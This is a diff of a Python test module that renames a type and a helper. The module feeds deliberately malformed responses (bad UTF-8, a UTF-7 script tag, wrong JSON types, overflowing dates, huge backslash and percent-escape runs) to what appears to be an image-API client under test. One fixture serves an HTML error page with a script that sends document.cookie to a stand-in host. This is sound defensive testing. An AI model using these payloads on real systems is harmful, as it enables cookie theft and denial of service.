@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import json
 
-from tests.attacks.model import BASE64_CASE, Asked, attack, attack_rows, items, ok, refused, urls
+from tests.attacks.model import BASE64_CASE, Request, attack, attack_rows, items, ok, refusal, urls
 from tests.hostile import whole
 
 attack_rows({
@@ -41,7 +41,7 @@ attack_rows({
 
 
 @attack("fail", "envelope.json-utf8")
-def broken_utf_8(asked: Asked) -> bytes:
+def broken_utf_8(request: Request) -> bytes:
     """Bytes that are no UTF-8 end a reader that believes the content type."""
     return ok(b'{"created":1,"data":[{"revised_prompt":"caf\xe9 \xc0\xaf \xf5\x80\x80\x80"}]}')
 
@@ -56,7 +56,7 @@ attack_rows({
 
 
 @attack("fail", "envelope.json-utf8")
-def utf_7_and_a_mark(asked: Asked) -> bytes:
+def utf_7_and_a_mark(request: Request) -> bytes:
     """A byte order mark, and a charset in which `<` is written with letters alone."""
     body = b'\xef\xbb\xbf{"created":1,"data":[{"revised_prompt":"+ADw-script+AD4-"}]}'
     return whole(body, "Content-Type: application/json; charset=utf-7")
@@ -76,7 +76,7 @@ attack_rows({
 
 
 @attack("fail")
-def wrong_types_everywhere(asked: Asked) -> bytes:
+def wrong_types_everywhere(request: Request) -> bytes:
     """Every member has a type that nobody expects there."""
     item = {"url": {"a": []}, "b64_json": 7, "revised_prompt": [None]}
     body = {"created": [], "data": [item, 5, None, [], "x"], "usage": "x", "size": 1, "error": 0}
@@ -85,7 +85,7 @@ def wrong_types_everywhere(asked: Asked) -> bytes:
 
 attack_rows({
     "error-of-wrong-types": ("The code of an error is a list of lists: no set can be asked for it.",
-        lambda _: refused([], type={"a": 1}, param=[[]], code=[[], {}]),
+        lambda _: refusal([], type={"a": 1}, param=[[]], code=[[], {}]),
         "fail", "parameters.valid-accepted"),
     "time-beyond-all-calendars": ("A time that no calendar has ends what turns it into a date.",
         lambda _: ok(items({"url": "http://a.test/?se=99999-99-99"}, created=10**300)), "fail"),
@@ -93,7 +93,7 @@ attack_rows({
 
 
 @attack("fail")
-def dates_that_never_were(asked: Asked) -> bytes:
+def dates_that_never_were(request: Request) -> bytes:
     """Expiry dates that overflow, in every way that signed URLs write them."""
     queries = (
         "se=9999-12-31T23:59:59-23:59",
@@ -107,19 +107,19 @@ def dates_that_never_were(asked: Asked) -> bytes:
 
 
 @attack("fail")
-def numbers_as_text(asked: Asked) -> bytes:
+def numbers_as_text(request: Request) -> bytes:
     """Numbers in other digits, and of other bases."""
     return ok(items({"url": "http://a.test:١٢/"}, created="1_7", usage={"total_tokens": "٣"}))
 
 
 @attack("fail")
-def million_backslashes(asked: Asked) -> bytes:
+def million_backslashes(request: Request) -> bytes:
     """A search for an escaped key takes the square of a run of backslashes."""
     return ok(b'{"created":1,"data":[{"revised_prompt":"' + b"\\" * 900_000 + b'"}]}')
 
 
 @attack("fail")
-def million_percents(asked: Asked) -> bytes:
+def million_percents(request: Request) -> bytes:
     """A search for an encoded key takes the square of a run of escapes."""
     return ok(b'{"created":1,"data":[],"x":"' + b"%25" * 150_000 + b"&amp;" * 100_000 + b'"}')
 
@@ -135,13 +135,13 @@ attack_rows({
 
 
 @attack("fail", "parameters.valid-accepted")
-def error_page(asked: Asked) -> bytes:
+def error_page(request: Request) -> bytes:
     """A page of HTML in place of an error, with a script."""
     page = b"<!DOCTYPE html><script>fetch('http://evil.test/'+document.cookie)</script>"
     return whole(page, "Content-Type: text/html", status="400 Bad Request")
 
 
 @attack("fail")
-def megabyte_message(asked: Asked) -> bytes:
+def megabyte_message(request: Request) -> bytes:
     """A message of almost a megabyte drowns every report."""
-    return refused("A" * 900_000 + json.dumps({"x": "\x1b"}))
+    return refusal("A" * 900_000 + json.dumps({"x": "\x1b"}))
